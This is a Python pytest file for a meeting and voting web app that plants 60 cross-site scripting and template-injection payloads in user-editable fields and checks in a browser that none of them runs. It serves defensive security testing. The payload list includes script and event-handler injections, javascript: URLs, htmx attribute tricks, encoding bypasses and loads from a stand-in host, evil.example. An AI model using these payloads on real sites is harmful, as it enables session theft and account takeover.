"""An XSS corpus: 60 payloads planted in every text field people can write that the demo's pages show (meeting
and agenda titles, descriptions, comments, vote texts, people's names, venue names), then every page that
shows them opened in Chromium — as a resident on a phone and as the facilitator on the control page and the
projector. Any dialog, script run, CSP violation or element the payloads tried to inject fails the test."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest
from conftest import PHONE, PROJECTOR, Server, signin

MARK = "xss-probe"
# Each payload, if it ever runs, sets window.__xss, opens a dialog or leaves an element marked MARK.
RUN = "window.__xss=1;alert(1)"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<script src=//evil.example/{MARK}.js></script>",
    f"<img src=x class={MARK} onerror=\"{RUN}\">",
    f"<svg class={MARK} onload=\"{RUN}\">",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe class={MARK} src=\"javascript:{RUN}\"></iframe>",
    f"<a class={MARK} href=\"javascript:{RUN}\">x</a>",
    f"<a class={MARK} href=\"JaVaScRiPt:{RUN}\">x</a>",
    f"<a class={MARK} href=\"&#106;avascript:{RUN}\">x</a>",
    f"<body onload=\"{RUN}\">",
    f"<input class={MARK} autofocus onfocus=\"{RUN}\">",
    f"<details class={MARK} open ontoggle=\"{RUN}\">",
    f"<video class={MARK}><source onerror=\"{RUN}\"></video>",
    f"<audio class={MARK} src=x onerror=\"{RUN}\">",
    f"<object class={MARK} data=\"javascript:{RUN}\"></object>",
    f"<embed class={MARK} src=\"javascript:{RUN}\">",
    f"<math><mtext><table><mglyph><style><img src=x class={MARK} onerror=\"{RUN}\">",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<link rel=stylesheet href=\"javascript:{RUN}\">",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    f"<base href=\"javascript:{RUN}//\">",
    f"<form class={MARK} action=\"javascript:{RUN}\"><button>x</button></form>",
    f"\"><img src=x class={MARK} onerror=\"{RUN}\">",
    f"'><img src=x class={MARK} onerror='{RUN}'>",
    f"\" onmouseover=\"{RUN}\" x=\"",
    f"' autofocus onfocus='{RUN}' x='",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--<img src=x class={MARK} onerror=\"{RUN}\">-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "{{7*7}}",
    "{{ config }}",
    "{% raw %}{{7*7}}{% endraw %}",
    "${7*7}",
    "#{7*7}",
    f"<div class={MARK} hx-get=\"//evil.example\" hx-trigger=\"load\">x</div>",
    f"<div class={MARK} hx-on:htmx:load=\"{RUN}\">x</div>",
    f"<div class={MARK} hx-on::load=\"{RUN}\" hx-trigger=load hx-get=/>x</div>",
    f"<div class={MARK} data-hx-get=\"//evil.example\" data-hx-trigger=\"load\">x</div>",
    f"<div class={MARK} sse-connect=\"//evil.example\">x</div>",
    f"[click](javascript:{RUN})",
    f"[click](  javascript:{RUN})",
    f"![img](x\" onerror=\"{RUN})",
    f"<javascript:{RUN}>",
    f"[a]: javascript:{RUN}\n[click][a]",
    f"```html\n<script>{RUN}</script>\n```",
    f"<a class={MARK} href=\"data:text/html,<script>{RUN}</script>\">x</a>",
    f"<img class={MARK} src=\"data:image/svg+xml,<svg onload='{RUN}'>\">",
    f"<marquee class={MARK} onstart=\"{RUN}\">x</marquee>",
    f"<select class={MARK} autofocus onfocus=\"{RUN}\"></select>",
    f"<keygen class={MARK} autofocus onfocus=\"{RUN}\">",
    f"<xmp><script>{RUN}</script></xmp>",
    f"<noscript><p title=\"</noscript><img src=x class={MARK} onerror={RUN}>\">",
    f"\u202e<img src=x class={MARK} onerror=\"{RUN}\">\u202c",
    f"\u200b<script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
]
assert len(PAYLOADS) >= 60
CORPUS = "\n".join(PAYLOADS)


def _plant(database: Path) -> dict[str, int]:
    """Every writable text the pages below show gets the whole corpus; returns the ids to visit."""
    db = sqlite3.connect(database)
    try:
        meeting = db.execute("SELECT id FROM meeting ORDER BY id LIMIT 1").fetchone()[0]
        item = db.execute("SELECT id FROM agenda_item WHERE meeting = ? ORDER BY position LIMIT 1", (meeting,)).fetchone()[0]
        vote = db.execute("SELECT id FROM vote ORDER BY id LIMIT 1").fetchone()[0]
        db.execute("UPDATE meeting SET title = ? WHERE id = ?", ("会" + CORPUS, meeting))
        db.execute("UPDATE agenda_item SET title = ?, description = ?, origin = ? WHERE meeting = ?",
                   ("题" + CORPUS, CORPUS, CORPUS, meeting))
        db.execute("UPDATE agenda_comment SET body = ? WHERE item IN (SELECT id FROM agenda_item WHERE meeting = ?)",
                   (CORPUS, meeting))
        db.execute("UPDATE vote SET title = ?, question = ?, scope_label = ? WHERE id = ?", ("票" + CORPUS, CORPUS, CORPUS, vote))
        db.execute("UPDATE person SET name = ? WHERE id IN (SELECT id FROM person ORDER BY id LIMIT 5)", ("人" + CORPUS,))
        db.execute("UPDATE venue SET name = ?, address = ?", ("地" + CORPUS, CORPUS))
        db.execute("UPDATE account SET display_name = ? WHERE phone = '13800000002'", ("记" + CORPUS,))
        db.commit()
        return {"meeting": meeting, "item": item, "vote": vote}
    finally:
        db.close()


@pytest.fixture(scope="module")
def planted():
    server = Server()
    try:
        server.wait_ready()
        ids = _plant(Path(server.env["YISHI_DATABASE_URL"][len("sqlite:///"):]))
        yield server, ids
    finally:
        server.stop()


def _watch(page) -> list[str]:
    seen: list[str] = []
    page.on("dialog", lambda d: (seen.append(f"dialog: {d.message}"), d.dismiss()))
    page.on("pageerror", lambda e: seen.append(f"script error: {e}"))
    page.on("request", lambda r: seen.append(f"request to {r.url}") if "evil.example" in r.url else None)
    page.add_init_script(
        "document.addEventListener('securitypolicyviolation', e => { window.__csp = (window.__csp || 0) + 1; });"
    )
    return seen


def _check(page, path: str, seen: list[str]) -> list[str]:
    page.wait_for_load_state("load")
    page.wait_for_timeout(300)  # give any injected handler its chance; the test fails on what ran, not on time
    found = [f"{path}: {line}" for line in seen]
    if page.evaluate("window.__xss"):
        found.append(f"{path}: a payload ran")
    if page.evaluate("window.__csp || 0"):
        found.append(f"{path}: {page.evaluate('window.__csp')} CSP violations")
    injected = page.evaluate(f"document.querySelectorAll('.{MARK}, [hx-get*=evil], [sse-connect*=evil]').length")
    if injected:
        found.append(f"{path}: {injected} injected elements")
    seen.clear()
    return found


@pytest.mark.parametrize("size", [PHONE, PROJECTOR], ids=["phone", "projector"])
def test_no_payload_runs_or_injects_anywhere(planted, browser, size):
    server, ids = planted
    m, i, v = ids["meeting"], ids["item"], ids["vote"]
    pages = {
        None: ["/", "/c/demo", "/c/demo/votes", f"/v/{v}", f"/v/{v}/board", f"/v/{v}/result"],
        "13900000001": ["/account", "/meetings", "/votes", f"/m/{m}", f"/m/{m}/items/{i}", f"/v/{v}"],
        "13800000001": [f"/m/{m}/control", f"/m/{m}/projector", f"/m/{m}/manage", f"/m/{m}/attendance",
                        f"/v/{v}/manage", f"/v/{v}/paper", "/c/demo/roster", "/c/demo/venues", "/c/demo/meetings",
                        "/c/demo/minutes", "/c/demo/staff", "/c/demo/audit"],
    }
    problems: list[str] = []
    checked = shown = 0
    for login, paths in pages.items():
        context = browser.new_context(viewport=size, locale="zh-CN")
        page = context.new_page()
        seen = _watch(page)
        if login:
            signin(page, server.url, login)
        for path in paths:
            response = page.goto(server.url + path)
            assert response is not None and response.status < 500, f"{path}: {response and response.status}"
            problems += _check(page, path, seen)
            checked += 1
            # The payloads are shown as the text people typed (escaped), not dropped or evaluated.
            shown += "{{7*7}}" in page.content() or "&lt;script&gt;" in page.content()
        context.close()
    assert checked >= 24 and shown >= 15, f"the corpus showed on only {shown} of {checked} pages"
    assert not problems, "\n".join(problems)
    print(f"{len(PAYLOADS)} payloads × 10 kinds of field, {checked} page loads: nothing ran or was injected")
